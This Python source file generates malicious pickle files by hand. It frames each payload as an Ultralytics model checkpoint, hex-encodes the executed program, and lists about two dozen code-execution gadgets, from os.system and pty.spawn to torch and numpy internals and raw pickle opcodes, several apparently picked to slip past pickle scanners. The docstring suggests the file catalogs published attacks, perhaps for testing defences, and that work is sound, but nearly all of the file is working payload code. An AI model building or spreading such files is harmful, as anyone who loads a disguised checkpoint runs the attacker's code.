"""Pickles written by hand, opcode by opcode, and the ways in which published attacks have a call in them."""

import shlex
import struct
import sys
from collections.abc import Callable
from pathlib import Path

from msgspec import Struct

DEEDS = "\n".join((Path(__file__).parent / name).read_text() for name in ("exhaustion.py", "deeds.py"))


class Ref(Struct, frozen=True):
    """A global by its name."""

    module: str
    name: str


class Call(Struct, frozen=True):
    """What REDUCE calls."""

    function: object
    arguments: tuple[object, ...]


def emit(value: object) -> bytes:
    """The opcodes that leave the value on the stack."""
    match value:
        case Ref():
            return f"c{value.module}\n{value.name}\n".encode()
        case Call():
            return emit(value.function) + b"(" + b"".join(map(emit, value.arguments)) + b"tR"
        case bool() | None:
            return {True: b"\x88", False: b"\x89", None: b"N"}[value]
        case int():
            return b"J" + struct.pack("<i", value)
        case str():
            return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case list():
            return b"](" + b"".join(map(emit, value)) + b"e"
        case dict():
            return b"}(" + b"".join(emit(part) for pair in value.items() for part in pair) + b"u"
    raise TypeError(value)


ULTRALYTICS = emit(Ref("ultralytics.nn.tasks", "DetectionModel")) + b"0"
"""Names the framework, so that the file is taken for one of its checkpoints, and drops the name again."""


def pickled(body: bytes, *, lead: bytes = ULTRALYTICS) -> bytes:
    return b"\x80\x04" + lead + body + b"."


def script(deed: str, targets: dict[str, object]) -> str:
    """The program that does the deed."""
    return f"{DEEDS}\nperform({deed!r}, {targets!r})\n"


def line(program: str) -> str:
    """The program as one expression."""
    return f"exec(bytes.fromhex('{program.encode().hex()}').decode(), {{'__name__': 'deeds'}})"


def shell(program: str) -> str:
    return f"{shlex.quote(sys.executable)} -S -c {shlex.quote(line(program))}"


def fresh() -> dict[str, object]:
    return {"__name__": "deeds"}


def attribute(owner: object, name: str) -> Call:
    return Call(Ref("builtins", "getattr"), (owner, name))


def imported(name: str) -> Call:
    return Call(Ref("importlib", "import_module"), (name,))


Gadget = Callable[[str], bytes]
GADGETS: dict[str, Gadget] = {
    "builtins.exec": lambda p: emit(Call(Ref("builtins", "exec"), (p, fresh()))),
    "builtins.eval": lambda p: emit(Call(Ref("builtins", "eval"), (line(p), fresh()))),
    "os.system": lambda p: emit(Call(Ref("os", "system"), (shell(p),))),
    "posix.system": lambda p: emit(Call(Ref("posix", "system"), (shell(p),))),
    "subprocess.check_output": lambda p: emit(
        Call(Ref("subprocess", "check_output"), ([sys.executable, "-S", "-c", line(p)],))
    ),
    "runpy._run_code": lambda p: emit(Call(Ref("runpy", "_run_code"), (p, fresh()))),
    "cProfile.run": lambda p: emit(Call(Ref("cProfile", "run"), (line(p),))),
    "timeit.timeit": lambda p: emit(Call(Ref("timeit", "timeit"), (line(p), "pass", Ref("time", "perf_counter"), 1))),
    "pydoc.pipepager": lambda p: emit(Call(Ref("pydoc", "pipepager"), ("", shell(p)))),
    "pty.spawn": lambda p: emit(Call(Ref("pty", "spawn"), ([sys.executable, "-S", "-c", line(p)],))),
    "ctypes system": lambda p: emit(
        Call(attribute(Call(Ref("ctypes", "CDLL"), (None,)), "system"), (shell(p).encode(),))
    ),
    "importlib and getattr": lambda p: emit(Call(attribute(imported("os"), "system"), (shell(p),))),
    "getattr on builtins": lambda p: emit(Call(attribute(imported("builtins"), "exec"), (p, fresh()))),
    "operator.methodcaller": lambda p: emit(
        Call(Call(Ref("operator", "methodcaller"), ("system", shell(p))), (imported("os"),))
    ),
    "functools.partial": lambda p: emit(Call(Call(Ref("functools", "partial"), (Ref("os", "system"), shell(p))), ())),
    "pip._internal.main by import": lambda p: emit(
        Call(Ref("builtins", "exec"), (f"import importlib.util; importlib.util.find_spec('pip')\n{p}", fresh()))
    ),
    "code.InteractiveInterpreter": lambda p: emit(
        Call(attribute(Call(Ref("code", "InteractiveInterpreter"), ()), "runcode"), (line(p),))
    ),
    "torch's own execWrapper": lambda p: emit(
        Call(Ref("torch.jit.unsupported_tensor_ops", "execWrapper"), (line(p), fresh(), fresh()))
    ),
    "numpy's own runstring": lambda p: emit(
        Call(Ref("numpy.testing._private.utils", "runstring"), (line(p), fresh()))
    ),
    "opcode INST": lambda p: b"(" + emit(p) + emit(fresh()) + b"ibuiltins\nexec\n",
    "opcode OBJ": lambda p: b"(" + emit(Ref("builtins", "exec")) + emit(p) + emit(fresh()) + b"o",
    "opcode STACK_GLOBAL": lambda p: emit("builtins") + emit("exec") + b"\x93(" + emit(p) + emit(fresh()) + b"tR",
    "__setstate__ by BUILD": lambda p: (
        emit(Call(Ref("functools", "partial"), (Ref("builtins", "print"),)))
        + b"(" + emit(Ref("builtins", "exec")) + b"(" + emit(p) + emit(fresh()) + b"t" + emit({}) + b"Ntb(tR"
    ),
}  # fmt: skip
